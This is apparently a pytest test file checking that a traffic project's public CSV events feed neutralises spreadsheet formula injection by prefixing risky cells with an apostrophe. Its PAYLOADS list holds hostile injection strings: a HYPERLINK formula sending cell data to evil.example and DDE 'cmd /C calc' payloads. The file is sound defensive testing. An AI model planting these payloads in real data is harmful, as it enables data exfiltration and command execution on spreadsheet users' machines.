"""Formula injection in the public CSV (issue 14, finding 6).

`/feeds/geojson/events.csv` needs no key and is opened in spreadsheets; descriptions come from road-works
teams and street names and ids from external sources. A text cell starting with `=`, `+`, `-`, `@`, a tab
or a carriage return must reach the spreadsheet as text (OWASP: a leading `'`), with nothing else lost,
while numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.feeds import events as ev
from traffic_hub.feeds.base import FeedContext
from traffic_hub.feeds.opendata import CSV_COLUMNS, OpenDataCsv, text_cell
from traffic_hub.model.geometry import LineString

NOW = ev.WINTER_NOW
PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Détails\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(description: str, street: str = "Rue Nationale") -> list[dict[str, str]]:
    event = ev.make_event("cl-INJECT-1", NOW, segments=[ev.segment(ev.RUE_NATIONALE_WEST)], description=description)
    event = event.model_copy(update={"street": street})
    ctx = FeedContext(now=NOW)
    renderer = OpenDataCsv()
    assert renderer.check(event, ctx) == []
    body = renderer.render([event], ctx).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised_without_losing_text(payload: str) -> None:
    [row] = rows(payload, street=payload)
    for column in ("description", "street"):
        cell = row[column]
        assert cell.startswith("'"), (column, cell)
        # the text after the quote is what the feed would otherwise carry (clean_text may drop control chars)
        assert cell[1:].lstrip("\t\r") == payload.lstrip("\t\r").strip() or cell[1:] in payload


def test_plain_text_and_numbers_are_unchanged() -> None:
    west = LineString(type="LineString", coordinates=[[-0.5, 50.63], [-0.49, 50.631]])  # a negative longitude
    event = ev.make_event(
        "cl-WEST-1", NOW, segments=[ev.segment(ev.RUE_NATIONALE_WEST)], description="Travaux - phase 2", geometry=west
    )
    event = event.model_copy(update={"lanes": {"closed": 1, "total": 2, "side": "RIGHT"}})
    line = OpenDataCsv().item(event, FeedContext(now=NOW)).data.decode("utf-8")
    row = dict(zip(CSV_COLUMNS, next(csv.reader(io.StringIO(line))), strict=True))
    assert row["description"] == "Travaux - phase 2"  # a dash inside the text is no formula
    assert (row["lon"], row["lat"]) == ("-0.500000", "50.630000")  # numbers, negative too, stay numbers
    assert (row["lanes_closed"], row["lanes_total"], row["version"]) == ("1", "2", "1")
    assert row["id"] == "cl-WEST-1"
    assert row["wkt"].startswith("LINESTRING (-0.500000 50.630000")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=1+1", "'=1+1"), ("-5 km", "'-5 km"), ("a=1", "a=1"), ("", ""), ("'already", "'already"), ("@x", "'@x")],
)
def test_text_cell(text: str, expected: str) -> None:
    assert text_cell(text) == expected
